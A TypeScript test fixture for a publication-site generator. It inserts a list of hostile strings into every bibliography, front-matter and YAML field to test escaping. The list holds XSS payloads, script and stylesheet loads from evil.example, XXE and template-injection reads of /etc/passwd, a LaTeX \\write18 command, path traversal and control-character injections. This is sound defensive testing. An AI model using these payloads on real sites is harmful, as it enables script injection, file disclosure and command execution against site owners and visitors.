// Values that an author may have copied from somewhere, each put into every field in every way into a site.
import type { Files } from "./small-site.ts";

/** What must run nowhere: it opens a dialog, which a browser that watches sees. */
const run = "alert(1)";

export const hostileValues: readonly string[] = [
  `<script>${run}</script>`,
  `<ScRiPt src=//evil.example/x.js></sCrIpT>`,
  `<img src=x onerror=${run}>`,
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text>x</text></a></svg>`,
  `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
  `<math href="javascript:${run}">x</math>`,
  `<a href="javascript:${run}">x</a>`,
  `<a href=" &#106;avascript:${run}">x</a>`,
  `<form action="//evil.example"><input name=a><button>x</button></form>`,
  `<base href="//evil.example/">`,
  `<meta http-equiv="refresh" content="0; url=javascript:${run}">`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<style>@import "//evil.example/x.css"; * { background: url(//evil.example/x) }</style>`,
  `<object data="javascript:${run}"></object><embed src="javascript:${run}">`,
  `<video><source onerror=${run}></video><details open ontoggle=${run}>`,
  `"><script>${run}</script>`,
  `' onmouseover='${run}' x='`,
  `" autofocus onfocus="${run}`,
  `\`onclick=${run}`,
  `</title><script>${run}</script>`,
  `</textarea></style></noscript><script>${run}</script>`,
  `</script><script>${run}</script>`,
  `<!--><script>${run}</script>-->`,
  `--><script>${run}</script>`,
  `]]><script>${run}</script>`,
  `<![CDATA[<script>${run}</script>]]>`,
  `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&#60;script&#62;${run}&#60;/script&#62;`,
  `\\u003cscript\\u003e${run}`,
  `{{ 7*191 }}{% include "/etc/passwd" %}{# x #}`,
  `{{ range.constructor("${run}")() }}`,
  `\${${run}}#{${run}}<%= ${run} %>`,
  `javascript:${run}`,
  `JaVaScRiPt:${run}//https://example.org`,
  `java\tscript:${run}`,
  `\u0001javascript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `vbscript:${run}`,
  `https://ada:secret@example.org/`,
  `https://example.org/"onmouseover="${run}`,
  `//evil.example/x`,
  `\\\\evil.example\\x`,
  `[x](javascript:${run})`,
  `[x](<javascript:${run}>)`,
  `![x](javascript:${run})`,
  `![x](https://evil.example/x.png)`,
  `<javascript:${run}>`,
  `[x][y]\n\n[y]: javascript:${run} "x"`,
  `\\href{javascript:${run}}{x}`,
  `\\url{javascript:${run}}`,
  `\\includegraphics{//evil.example/x.png}\\input{/etc/passwd}\\write18{id}`,
  `$\\href{javascript:${run}}{x}$`,
  `$\\text{<script>${run}</script>}$`,
  `$\\ref{x}\\class{x}{y}\\style{background:url(//evil.example/x)}{z}$`,
  `$\\color{red" onclick="${run}}{x}$`,
  `\\char60 script\\char62 ${run}`,
  `__proto__`,
  `constructor`,
  `../../../../etc/passwd`,
  `a\u202eb\u2066c`,
  `a\u2067<b>c\u202d`,
  `a\u0000b\u0007c\u001b[31md\u009be\uffff`,
  `a\u2028b\u2029c`,
  `##[error]x ::set-output name=a::b`,
];

/** The fields of an entry that a value is put into. */
const fields =
  "title subtitle author editor translator journal booktitle publisher address year month date volume number pages doi eprint eprinttype url note abstract keywords series edition institution school howpublished annote type isbn issn language eventtitle venue addendum pubstate location teaser teaser-alt teaser-caption pdf code url_talk links distinction status related collections selected order modified license titleaddon chapter organization".split(
    " ",
  );

const frontMatter =
  "title authors editors venue date year type arxiv doi url pdf code slides collections keywords order modified distinction status note aliases versions teaser teaser-alt teaser-caption publisher volume pages abstract series language eprint isbn annotation".split(
    " ",
  );

/** How many times a value is put somewhere. */
export interface HostileSite {
  readonly files: Files;
  readonly tried: number;
}

export const quoted = (value: string) =>
  `"${value.replace(/[\\"]/g, "\\$&").replace(/\n/g, "\\n").replace(/\t/g, "\\t")}"`;

/** A site in which each value stands in every field of an entry, a file of front matter, and the files of the site. */
export function hostileSite(values: readonly string[]): HostileSite {
  const files: Record<string, string> = {};
  let tried = 0;
  for (const [index, value] of values.entries()) {
    const entry = (only: readonly string[], key: string) => {
      const lines = only.map((field) => `  ${field} = {${value}},`);
      const rest = only.includes("title") ? "" : "  title = {Sound},\n";
      const year = only.includes("year") || only.includes("date") ? "" : "  year = 2020,\n";
      return `@article{${key},\n${rest}${year}${lines.join("\n")}\n}\n`;
    };
    // All at once, and each by itself, since one may hide what another does.
    files[`content/publications/b${index}.bib`] =
      entry(fields, `b${index}`) + fields.map((field, at) => entry([field], `b${index}x${at}`)).join("");
    tried += 2 * fields.length;
    const matter = (only: readonly string[]) => {
      const lines = only.map((field) => `${field}: ${quoted(value)}\n`).join("");
      const rest = (only.includes("title") ? "" : "title: Sound\n") + (only.includes("date") ? "" : "date: 2020\n");
      return `---\n${rest}${lines}links:\n  ${quoted(value)}: ${quoted(value)}\n---\n${value}\n`;
    };
    files[`content/publications/m${index}.md`] = matter(frontMatter);
    for (const [at, field] of frontMatter.entries()) files[`content/publications/m${index}x${at}.md`] = matter([field]);
    tried += 2 * frontMatter.length + 3;
    files[`content/collections/c${index}.md`] =
      `---\ntitle: ${quoted(value)}\nmatch: {keywords: [${quoted(value)}]}\n---\n${value}\n\n# ${value}\n\n| a |\n| --- |\n| ${value.replaceAll("\n", " ")} |\n\n\`\`\`${value}\n${value}\n\`\`\`\n`;
    tried += 6;
  }
  const list = (one: (value: string, index: number) => string) => values.map(one).join("");
  files["content/people.yaml"] = list(
    (value, index) =>
      `- id: p${index}\n  name: ${quoted(value)}\n  variants: [${quoted(`${value} ${index}`)}]\n  homepage: ${quoted(value)}\n  orcid: ${quoted(value)}\n`,
  );
  files["content/venues.yaml"] = list(
    (value, index) =>
      `- short: V${index}\n  name: ${quoted(value)}\n  url: ${quoted(value)}\n  patterns: [${quoted(value)}]\n`,
  );
  files["content/index.md"] = list((value) => `${value}\n\n`);
  files["content/site.yaml"] =
    `title: ${quoted(values.join(" "))}\ndescription: ${quoted(values.join(" "))}\nurl: https://example.org/\nprofiles:\n${list(
      (value, index) => `  ${quoted(`${value}${index}`)}: ${quoted(value)}\n`,
    )}`;
  files["content/messages/en.yaml"] = `collections: ${quoted(values.join(" "))}\n`;
  return { files, tried: tried + 12 * values.length };
}
